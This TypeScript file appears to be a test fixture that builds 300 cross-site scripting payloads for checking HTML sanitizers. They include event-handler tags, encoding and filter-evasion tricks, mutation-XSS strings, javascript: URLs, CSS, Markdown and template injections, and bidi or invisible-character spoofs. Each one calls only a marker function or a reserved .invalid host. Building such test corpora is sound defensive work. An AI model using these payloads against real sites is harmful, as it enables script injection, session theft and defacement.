// Texts that attack whoever shows them: places in a page where a text may stand unescaped, times what a text does there. Written by us, made anew in each run.

/** Where a page that does not escape would put it, so that it does harm. */
export type Context =
  | 'html'
  | 'quoted'
  | 'single'
  | 'bare'
  | 'url'
  | 'script'
  | 'style'
  | 'srcdoc'
  | 'reparsed'
  | 'markdown'
  | 'template';

export interface Payload {
  /** Its number, which it says when it runs: `ran(17)`. */
  id: number;
  context: Context;
  text: string;
  /** `runs`: a script; `asks`: something of another host; `shows`: nothing but what a reader takes for something else. */
  harm: 'runs' | 'asks' | 'shows';
}

/** The name of what each payload calls. */
export const callName = 'ran';
/** No host: nothing may ask for it. */
export const elsewhere = 'elsewhere.invalid';

type Write = (call: string, id: number) => string;

/** Elements that run something when they are parsed, loaded, shown or brought into focus. */
const elements: Write[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt\n>${call}</sCrIpT >`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<IMG/SRC="x"/ONERROR=${call}>`,
  (call) => `<img src=x onerror\n=\n${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload="${call}"/>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x>`,
  (call) => `<svg><image href=x onerror=${call}>`,
  (call) => `<video src=x onerror=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  (call) => `<embed src="javascript:${call}" onload=${call}><img src=x onerror=${call}>`,
  (call) => `<object data=x onerror=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<textarea autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`,
  (call) => `<a href=# autofocus onfocus=${call}>x</a>`,
  (call) => `<b tabindex=1 autofocus onfocus=${call}>x</b>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${call}>`,
];

/** What a text would have to close first: the element, attribute or comment in which it was put. */
const ways = ['', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '</noscript>'];

/** The same call, written so that a filter for words does not see it. */
const disguises: Write[] = [
  (call) => `<img src=x onerror=&#${call.charCodeAt(0)};${call.slice(1)}>`,
  (call) => `<img src=x onerror=&#x${call.charCodeAt(0).toString(16)};${call.slice(1)}>`,
  (call) => `<img src=x onerror=\\u0072${call.slice(1)}>`,
  (call) => `<img src=x onerror=\\u{72}${call.slice(1)}>`,
  (_, id) => `<img src=x onerror=${callName}&lpar;${id}&rpar;>`,
  (_, id) => `<img src=x onerror=${callName}\`${id}\`>`,
  (_, id) => `<img src=x onerror=window['r'+'an'](${id})>`,
  (_, id) => `<img src=x onerror=top[/ran/.source](${id})>`,
  (_, id) => `<img src=x onerror=self["\\x72an"](${id})>`,
  (_, id) => `<img src=x onerror="[${id}].map(${callName})">`,
  (_, id) => `<img src=x onerror=location='javascript:${callName}%28${id}%29'>`,
  (call) => `<img src=x onerror=eval(atob('${btoa(call)}'))>`,
  (call) => `<img src=x onerror=eval(String.fromCharCode(${[...call].map((letter) => letter.charCodeAt(0))}))>`,
  (call) => `<img src=x onerror=setTimeout('${call}')>`,
  (call) => `<img src=x onerror=Function('${call}')()>`,
  (call) => `<img src=x onerror=import('data:text/javascript,top.${call}')>`,
  (call) => `<img src=x onerror=${call}//`,
  (call) => `<img src=x\fonerror=${call}>`,
  (call) => `<img src=x \tonerror\t=\t${call}>`,
  (call) => `<<img src=x onerror=${call}>`,
  (call) => `<img """><img src=x onerror=${call}>">`,
  (call) => `<img src='x' onerror='${call}' alt='\u2028\u2029'>`,
  (call) => `<img src=x alt=\ufeff onerror=${call}>`,
  (call) => `<x onpointerenter=0><img src=x onerror=${call}></x>`,
];

/** Text that becomes something else when it is parsed, written and parsed again. */
const mutations: Write[] = [
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${call}>-->`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<svg><style><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<template><p></template><img src=x onerror=${call}>`,
  (call) => `<table><td><svg><desc><img src=x onerror=${call}>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!--x--!><img src=x onerror=${call}>`,
  (call) => `<?x?><img src=x onerror=${call}>`,
  (call) => `</p x="<img src=x onerror=${call}>"><img src=x onerror=${call}>`,
  (call) => `<xmp></xmp><img src=x onerror=${call}>`,
  (call) => `<select><option></select><img src=x onerror=${call}>`,
  (call) => `<iframe></iframe><img src=x onerror=${call}>`,
];

/** Inside an attribute: a handler of its own. */
const handlers: Write[] = [
  (call) => `autofocus onfocus=${call}`,
  (call) => `autofocus/onfocus=${call}`,
  (call) => `autofocus onfocusin=${call}`,
  (call) => `style=animation:x onanimationstart=0 autofocus onfocus=${call}`,
  (call) => `type=image src=x onerror=${call}`,
  (call) => `type=image src=x onerror=&#${call.charCodeAt(0)};${call.slice(1)}`,
];

/** Addresses that are followed. */
const addresses: Write[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java\rscript:${call}`,
  (call) => `javascript\t:${call}`,
  (call) => `javascript://x/%0a${call}`,
  (call) => `javascript:/*x*/${call}`,
  (call) => `javascript:void ${call}`,
  (_, id) => `javascript:${callName}%28${id}%29`,
  (_, id) => `javascript:${callName}\`${id}\``,
  (call) => `javascript:"<script>opener?.${call}</script>",${call}`,
  (call) => `\njavascript:${call}`,
  (call) => `javascript:{${call}}`,
  (call) => `javascript:eval("${call}")`,
  (call) => `javascript:window.${call}//https://example.com`,
  (call) => `javascript:0,${call}`,
  (call) => `javascript:\u2028${call}`,
];

/** Inside a string of a script. */
const strings: Write[] = [
  (call) => `';${call};'`,
  (call) => `'-${call}-'`,
  (call) => `'+${call}+'`,
  (call) => `';${call}//`,
  (call) => `'||${call}||'`,
  (call) => `';var x=${call},y='`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</script><img src=x onerror=${call}>`,
  (call) => `'\n;${call}\n;'`,
  (call) => `'\u2028;${call};'`,
];

/** Inside a style sheet. */
const styles: Write[] = [
  (call) => `}</style><script>${call}</script>`,
  (call) => `}</style><img src=x onerror=${call}>`,
  (call) => `*/</style><svg onload=${call}>`,
  (_, id) => `}</style><link rel=stylesheet href=//${elsewhere}/${id}>`,
  (_, id) => `}body{background:url(//${elsewhere}/${id})}`,
  (_, id) => `}*{list-style:url("https://${elsewhere}/${id}") inside}li{display:list-item}`,
  (_, id) => `}@font-face{font-family:x;src:url(//${elsewhere}/${id})}p{font-family:x}`,
  (_, id) => `}p::before{content:url(//${elsewhere}/${id})}`,
];

/** Documents within a page. */
const documents: Write[] = [
  (call) => `<script>parent.${call}</script>`,
  (call) => `<img src=x onerror=parent.${call}>`,
  (call) => `<svg onload=parent.${call}>`,
  (call) => `<body onload=parent.${call}>`,
  (call) => `<body onpageshow=parent.${call}>`,
  (call) => `<base href="javascript:/"><script>parent.${call}</script>`,
  (call) => `<script>top.${call}</script>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:0"><script>parent.${call}</script>`,
];

/** Read as Markdown: links and pictures, and HTML in between. */
const markdown: Write[] = [
  (call) => `[open](javascript:${call})`,
  (call) => `[open](JAVASCRIPT:${call})`,
  (call) => `[open](javascript:${call} "title")`,
  (call) => `[**open**](javascript:${call})`,
  (call) => `[open](<javascript:${call}>)`,
  (call) => `[open](java\tscript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `![x" onerror="${call}](x)`,
  (call) => `**bold** <img src=x onerror=${call}>`,
  (call) => `\`\`\`\n</code></pre><img src=x onerror=${call}>\n\`\`\``,
  (call) => `> quote\n> <svg onload=${call}>`,
  (call) => `| a |\n|---|\n| <img src=x onerror=${call}> |`,
  (_, id) => `![x](https://${elsewhere}/${id})`,
  (_, id) => `![x](//${elsewhere}/${id})`,
];

/** Read as a template. */
const templates: Write[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{${call}}}`,
  (call) => `{{[].pop.constructor('${call}')()}}`,
  (call) => `{{this.constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `\${constructor.constructor('${call}')()}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `@(${call})`,
];

/** Markup that is left open, or asks for something by itself. */
const open: Write[] = [
  (_, id) => `<img src="//${elsewhere}/${id}?`,
  (_, id) => `<img src='https://${elsewhere}/${id}?`,
  (_, id) => `<img src=//${elsewhere}/${id}>`,
  (_, id) => `<link rel=stylesheet href=//${elsewhere}/${id}>`,
  (_, id) => `<link rel=icon href=//${elsewhere}/${id}><img src=//${elsewhere}/${id}>`,
  (_, id) => `<iframe src="https://${elsewhere}/${id}"></iframe>`,
  (_, id) => `<object data="//${elsewhere}/${id}"></object>`,
  (_, id) => `<embed src="//${elsewhere}/${id}">`,
  (_, id) => `<video poster=//${elsewhere}/${id}></video>`,
  (_, id) => `<audio src=//${elsewhere}/${id} preload=auto></audio>`,
  (_, id) => `<svg><image href=//${elsewhere}/${id} /></svg>`,
  (_, id) => `<script src=//${elsewhere}/${id}></script>`,
  (_, id) => `<base href=//${elsewhere}/><img src=${id}>`,
  (_, id) => `<p style="background:url(//${elsewhere}/${id})">x`,
  (_, id) => `<table background=//${elsewhere}/${id}><tr><td>x`,
  (_, id) => `<input type=image src=//${elsewhere}/${id}>`,
];

/** What turns the direction of reading, or is not seen. */
const unseen: Write[] = [
  (_, id) => `\u202egnp.${id}\u202cexe`,
  (_, id) => `\u2066admin\u2069\u202e${id}`,
  (_, id) => `a\u200bd\u200cm\u200din${id}`,
  (_, id) => `\u202d${id}\u202e</b>`,
  (_, id) => `Z${'\u0351'.repeat(20)}${id}`,
  (_, id) => `\ufff9${id}\ufffa&lt;b&gt;\ufffb`,
  (_, id) => `\u{e0041}\u{e0042}${id}`,
  (_, id) => `ＡＤＭＩＮ＜script＞${id}`,
];

/** Exactly 300. */
export const payloads: readonly Payload[] = corpus();

function corpus(): Payload[] {
  const made: Payload[] = [];
  const add = (context: Context, write: Write, before = '', after = '', harm?: Payload['harm']) => {
    const id = made.length + 1;
    const text = before + write(`${callName}(${id})`, id) + after;
    made.push({ id, context, text, harm: harm ?? (text.includes(elsewhere) ? 'asks' : 'runs') });
  };
  for (const write of [...elements, ...disguises]) add('html', write);
  for (const write of mutations) add('reparsed', write);
  for (const write of handlers) {
    add('quoted', write, '" ', ' x="');
    add('single', write, "' ", " x='");
    add('bare', write, 'x ');
  }
  for (const write of addresses) add('url', write);
  for (const write of strings) add('script', write);
  for (const write of styles) add('style', write);
  for (const write of documents) add('srcdoc', write);
  for (const write of markdown) add('markdown', write);
  for (const write of templates) add('template', write);
  for (const write of open) add('html', write);
  for (const write of unseen) add('html', write, '', '', 'shows');
  // What is left: elements behind each way out of where a text was put.
  for (let index = 0; made.length < 300; index++) {
    const write = elements[index % elements.length];
    const way = ways[1 + (index % (ways.length - 1))];
    if (write) add('html', write, way);
  }
  return made;
}
